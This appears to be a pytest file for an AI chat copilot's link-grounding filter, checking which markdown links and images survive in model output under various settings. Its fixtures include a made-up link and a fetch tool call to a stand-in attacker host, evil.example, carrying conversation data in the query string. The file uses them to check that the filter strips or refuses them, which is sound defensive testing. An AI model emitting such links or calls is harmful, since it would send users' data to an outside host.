"""Links in runs: who writes them, which are known, and what the settings say."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator
from dataclasses import replace

import pytest

from sextant.chat.actions.action import action
from sextant.chat.context import RunContext
from sextant.chat.function_agent import agent
from sextant.settings import ChatSettings
from sextant.testing.scripted import Scripted
from sextant.types import (
    ActionReturned,
    ContextItem,
    Prompt,
    Reply,
    RunFailed,
    RunRequest,
    Speaker,
    TextMessage,
    ToolCall,
)
from tests.chat.running import (
    GROUNDED,
    PLAIN,
    QUEUE,
    events_of,
    only,
    opened,
    request,
    text_of,
)

_TOOL = replace(PLAIN, chat=ChatSettings(grounding="tool"))
_LINK = "Here: [more](https://evil.example/?q=Team%20Keel)"


async def _written(text: str, asked: RunRequest, settings: object = _TOOL) -> str:
    async with opened(Scripted(lambda _: text), settings) as sextant:  # type: ignore[arg-type]
        return text_of(await events_of(sextant.copilot, asked))


async def test_a_link_that_a_model_makes_up_is_told_as_its_text() -> None:
    assert await _written(_LINK, request()) == "Here: more"


@pytest.mark.parametrize(
    ("chat", "is_kept"),
    [
        (ChatSettings(grounding="off"), True),
        (ChatSettings(grounding="off", links="known"), False),
        (ChatSettings(grounding="tool", links="all"), True),
        (ChatSettings(grounding="tool", tool_hosts=("evil.example",)), True),
    ],
)
async def test_the_settings_say_which_links_are_told(chat: ChatSettings, is_kept: bool) -> None:
    told = await _written(_LINK, request(), replace(PLAIN, chat=chat))
    assert (told == _LINK) is is_kept


async def test_what_the_user_wrote_may_be_a_link_and_an_image() -> None:
    told = "[it](https://a.example/b) ![it](https://a.example/b)"
    assert await _written(told, request("Look at https://a.example/b.")) == told


async def test_what_the_page_says_may_be_a_link_and_no_image() -> None:
    asked = request(context=(ContextItem("page", "https://a.example/b"),))
    told = await _written("[it](https://a.example/b) ![it](https://a.example/b)", asked)
    assert told == "[it](https://a.example/b) [it](https://a.example/b)"


async def test_an_earlier_message_of_the_assistant_makes_nothing_known() -> None:
    earlier = TextMessage("a1", Speaker.ASSISTANT, "`https://evil.example/?q=Team%20Keel`")
    asked = RunRequest((earlier, TextMessage("u1", Speaker.USER, "And?")))
    assert await _written(_LINK, asked) == "Here: more"


async def test_documents_that_were_found_may_be_linked_as_citations_are() -> None:
    def script(prompt: Prompt) -> str | Reply:
        last = prompt.messages[-1]
        if last.speaker is not Speaker.TOOL:
            asked = json.dumps({"question": "Who owns Harbor Queue?"})
            return Reply("", (ToolCall("c1", "search_knowledge", asked),))
        link = json.loads(last.text.split("\n")[1])["citations"][0]["link"]
        return f"Team Keel [Harbor Queue]({link}), [more]({link}?q=1)."

    async with opened(Scripted(script), _TOOL, [QUEUE]) as sextant:
        events = await events_of(sextant.copilot, request())
    link = "https://docs.example/queue%281%29"
    assert text_of(events) == f"Team Keel [Harbor Queue]({link}), more."


async def test_an_address_that_was_refused_is_not_known_the_next_time() -> None:
    read: list[str] = []

    @action
    def fetch(url: str) -> str:
        """Read a page."""
        read.append(url)
        return "See https://a.example/new"

    def script(prompt: Prompt) -> str | Reply:
        tried = sum(one.speaker is Speaker.TOOL for one in prompt.messages)
        urls = [*["https://evil.example/?q=Team%20Keel"] * 2, "https://a.example/b"]
        if tried == len(urls):
            return f"[a](https://a.example/new). {_LINK}"
        return Reply("", (ToolCall(f"c{tried}", "fetch", json.dumps({"url": urls[tried]})),))

    async with opened(Scripted(script), _TOOL) as sextant:
        sextant.copilot.register(fetch)
        events = await events_of(sextant.copilot, request("Read https://a.example/b"))
    assert read == ["https://a.example/b"]
    assert [one.failed for one in only(events, ActionReturned)] == [True, True, False]
    assert text_of(events) == "[a](https://a.example/new). Here: more"


async def test_agents_of_any_kind_are_held_to_the_same() -> None:
    @agent
    async def clerk(_: RunContext) -> AsyncGenerator[str, None]:
        for piece in ("See [mo", "re](htt", "ps://evil.exam", "ple/x) now"):
            yield piece

    async with opened(settings=GROUNDED) as sextant:
        sextant.copilot.register(clerk)
        events = await events_of(sextant.copilot, request(agent="clerk"))
    assert text_of(events) == "See more now"


async def test_answers_from_the_knowledge_keep_their_links() -> None:
    async with opened(settings=GROUNDED, puts=[QUEUE]) as sextant:
        events = await events_of(sextant.copilot, request("Who owns Harbor Queue?"))
    assert "[Harbor Queue](https://docs.example/queue%281%29)" in text_of(events)


async def test_what_is_held_back_of_a_message_that_breaks_off_is_told() -> None:
    @agent
    async def broken(_: RunContext) -> AsyncGenerator[str, None]:
        yield "It is at http"
        raise RuntimeError

    async with opened(settings=GROUNDED) as sextant:
        sextant.copilot.register(broken)
        events = await events_of(sextant.copilot, request(agent="broken"))
    assert text_of(events) == "It is at http"
    assert isinstance(events[-1], RunFailed)
